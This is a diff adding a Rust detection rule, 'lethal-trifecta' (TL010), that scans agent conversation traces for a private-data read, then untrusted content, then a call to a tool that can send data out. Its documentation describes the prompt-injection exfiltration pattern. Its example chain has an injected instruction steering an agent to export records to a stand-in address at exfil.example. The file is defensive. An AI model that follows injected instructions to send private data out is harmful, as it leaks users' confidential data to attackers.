@@ -1,0 +1,159 @@
+//! TL010 lethal-trifecta: in one conversation, private data read, then untrusted content
+//! ingested, then an exfiltration-capable tool called.
+
+use std::collections::BTreeMap;
+
+use super::{Context, Coverage, Finding, Rule, RuleDocs, RuleOutcome, Severity};
+use crate::model::{Call, CallKind, Scope};
+
+pub struct LethalTrifecta;
+
+static DOCS: RuleDocs = RuleDocs {
+    what: "One conversation (else agent run, else trace) reads private data (a tool tagged \
+           `private-data` in the policy file), then ingests untrusted content (any resources/read \
+           or prompts/get result, or a tool that is open-world by annotation or tagged \
+           `untrusted`, unless tagged `trusted`), then calls an exfiltration-capable tool (tagged \
+           `exfiltration`, or open-world and not read-only by annotation), in that order.",
+    why: "This is the prompt-injection exfiltration pattern: text the attacker controls reaches \
+          the model after it has seen private data, and the model can then send data out. Each \
+          step looks harmless on its own.",
+    example: "conv-9: get_ticket(T-4711) (private-data) -> resources/read \
+              acme-support://guide/overheating (user-contributed text with an injected \
+              instruction) -> export_service_records(recipient=records-backup@exfil.example).",
+    fix: "Break one leg: require approval for exfiltration-capable tools after untrusted content \
+          entered the context, keep untrusted content out of sessions that hold private data, \
+          or remove the outbound tool from that agent's catalog. Tag tools in the policy file \
+          (private-data, untrusted, trusted, exfiltration) so the rule can see the legs.",
+};
+
+impl Rule for LethalTrifecta {
+    fn code(&self) -> &'static str {
+        "TL010"
+    }
+    fn name(&self) -> &'static str {
+        "lethal-trifecta"
+    }
+    fn severity(&self) -> Severity {
+        Severity::Critical
+    }
+    fn docs(&self) -> &'static RuleDocs {
+        &DOCS
+    }
+
+    fn check(&self, ctx: &Context) -> RuleOutcome {
+        let model = ctx.model;
+        let mut scopes: BTreeMap<Scope, Vec<&Call>> = BTreeMap::new();
+        for call in &model.calls {
+            scopes.entry(model.call_scope(call)).or_default().push(call);
+        }
+        scopes.retain(|_, calls| calls.iter().any(|c| c.is_tool()));
+        let mut cov = Coverage::new(scopes.len());
+        let private_known = ctx
+            .policy
+            .tools
+            .values()
+            .any(|t| t.tags.iter().any(|g| g == "private-data"));
+        let exfil_known = ctx
+            .policy
+            .tools
+            .values()
+            .any(|t| t.tags.iter().any(|g| g == "exfiltration"))
+            || ctx
+                .catalog
+                .tools
+                .values()
+                .any(|d| d.open_world_hint.is_some());
+        if !private_known || !exfil_known {
+            let mut missing = Vec::new();
+            if !private_known {
+                missing.push("no tool is tagged private-data");
+            }
+            if !exfil_known {
+                missing.push("no tool is tagged exfiltration and no openWorldHint was observed");
+            }
+            cov.not_observable(
+                scopes.len(),
+                format!(
+                    "{} in {} conversations: the chain cannot be recognised ({}); tag tools in the policy file",
+                    missing.join(" and "),
+                    scopes.len(),
+                    if private_known { "exfiltration leg unknown" } else { "private-data leg unknown" }
+                ),
+            );
+        }
+        let mut findings = Vec::new();
+        for calls in scopes.values() {
+            let mut private: Option<&Call> = None;
+            let mut untrusted: Option<&Call> = None;
+            for call in calls {
+                let tool = call.tool.as_deref().unwrap_or("");
+                if private.is_none() {
+                    if call.is_tool() && ctx.has_tag(tool, "private-data") {
+                        private = Some(call);
+                    }
+                    continue;
+                }
+                if untrusted.is_none() {
+                    if is_untrusted(ctx, call) {
+                        untrusted = Some(call);
+                    }
+                    continue;
+                }
+                if call.is_tool() && is_exfiltration(ctx, tool) {
+                    let (Some(p), Some(u)) = (private, untrusted) else {
+                        continue;
+                    };
+                    let u_desc = match &u.kind {
+                        CallKind::Tool => u.tool.clone().unwrap_or_default(),
+                        CallKind::Request(m) => m.clone(),
+                    };
+                    findings.push(
+                        Finding::at(
+                            self,
+                            model,
+                            call.anchor,
+                            format!(
+                                "private data read by {}, then untrusted content from {u_desc}, then {tool} can send it out",
+                                p.tool.as_deref().unwrap_or("?")
+                            ),
+                        )
+                        .with_tool(Some(tool))
+                        .with_related(
+                            model,
+                            [p.anchor]
+                                .into_iter()
+                                .chain(u.members.iter().copied()),
+                        ),
+                    );
+                    break;
+                }
+            }
+        }
+        RuleOutcome::new(findings, cov)
+    }
+}
+
+fn is_untrusted(ctx: &Context, call: &Call) -> bool {
+    match &call.kind {
+        CallKind::Request(m) => m == "resources/read" || m == "prompts/get",
+        CallKind::Tool => {
+            let tool = call.tool.as_deref().unwrap_or("");
+            if ctx.has_tag(tool, "trusted") {
+                return false;
+            }
+            ctx.has_tag(tool, "untrusted")
+                || ctx
+                    .catalog
+                    .get(tool)
+                    .is_some_and(|d| d.open_world_hint == Some(true))
+        }
+    }
+}
+
+fn is_exfiltration(ctx: &Context, tool: &str) -> bool {
+    ctx.has_tag(tool, "exfiltration")
+        || ctx
+            .catalog
+            .get(tool)
+            .is_some_and(|d| d.open_world_hint == Some(true) && d.read_only_hint != Some(true))
+}
